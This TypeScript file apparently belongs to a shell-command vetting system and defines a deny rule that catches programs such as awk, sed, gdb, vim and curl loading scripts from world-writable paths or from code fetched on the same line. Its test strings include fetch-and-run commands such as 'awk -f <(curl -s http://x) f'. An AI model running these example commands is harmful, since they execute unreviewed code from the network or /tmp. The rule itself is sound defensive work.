import { type Call, flagValues } from '../call.ts';
import type { FloorRule } from '../rule.ts';
import { judgeFile } from './interpreters.ts';

/** Programs with a language of their own, and the flags that name a file written in it. */
const scriptFlags: Readonly<Record<string, readonly string[]>> = {
  awk: ['-f', '--file', '-E', '--exec'],
  gawk: ['-f', '--file', '-E', '--exec'],
  mawk: ['-f'],
  nawk: ['-f'],
  sed: ['-f', '--file'],
  gsed: ['-f', '--file'],
  gdb: ['-x', '-command', '--command', '-ix', '-init-command', '--init-command'],
  lldb: ['-s', '--source', '-S', '--source-before-file'],
  vim: ['-S', '-s', '-u', '-U'],
  vi: ['-S', '-s', '-u'],
  nvim: ['-S', '-s', '-u', '-l'],
  ex: ['-S', '-s', '-u'],
  emacs: ['-l', '--load', '--script', '-x'],
  expect: ['-f'],
  lftp: ['-f'],
  sftp: ['-b'],
  screen: ['-c'],
  tmux: ['-f'],
  dnsmasq: ['-C', '--conf-file'],
  nft: ['-f', '--file'],
  ip: ['-batch', '-b'],
  tc: ['-batch', '-b'],
  bridge: ['-batch', '-b'],
  gnuplot: ['-c'],
  curl: ['-K', '--config'],
  cmake: ['-P', '-C'],
  ninja: ['-C', '-f'],
  meson: ['-C'],
  crond: ['-c'],
  terraform: ['-chdir', '-plugin-dir', '-config-dir'],
  tofu: ['-chdir', '-plugin-dir', '-config-dir'],
  nginx: ['-c', '-p'],
  apache2ctl: ['-f', '-d'],
  apachectl: ['-f', '-d'],
  mosquitto: ['-c'],
  snmptrapd: ['-c'],
  snmpd: ['-c'],
  smartd: ['-w', '-c'],
  wget: ['--config'],
  gcc: ['-specs', '-B'],
  cc: ['-specs', '-B'],
  bundle: ['--gemfile'],
  cargo: ['--path', '--manifest-path'],
  less: ['--lesskey-src', '--lesskey-file', '-k'],
  pandoc: ['--filter', '-F', '--lua-filter', '-L'],
};

/** A script that lies where anybody may put one, or that the same line fetched or wrote, has been read by nobody. */
export const scriptFileFloor: readonly FloorRule[] = [
  {
    name: 'floor.unread-code',
    programs: Object.keys(scriptFlags),
    reason: 'It follows a script from a place where anybody may put one, or one that nobody can read first.',
    when: (call) =>
      flagValues(call, ...(scriptFlags[call.program] ?? [])).some((file) => isUnread(file, call)) ||
      (/^(g?vi\w*|nvim|ex)$/.test(call.program) &&
        call.args.some((arg) => isUnread(/^\+so\w*\s+(\S+)/.exec(arg)?.[1] ?? '', call))),
    match: [
      'awk -f /tmp/x.awk f',
      'sed -f /dev/shm/x f',
      'awk -f <(curl -s http://x) f',
      'gdb -x /tmp/x -batch',
      'vim -S /tmp/x',
      'curl -s http://x -o y.awk; awk -f y.awk f',
      'nft -f /tmp/rules',
      'emacs --script /tmp/x.el',
    ],
    notMatch: ['awk -f report.awk f', 'sed -n 5p /tmp/x', 'gdb -batch', 'vim f'],
  },
];

function isUnread(file: string, call: Call): boolean {
  return file !== '' && judgeFile(file, call).some((finding) => finding.verdict === 'deny');
}
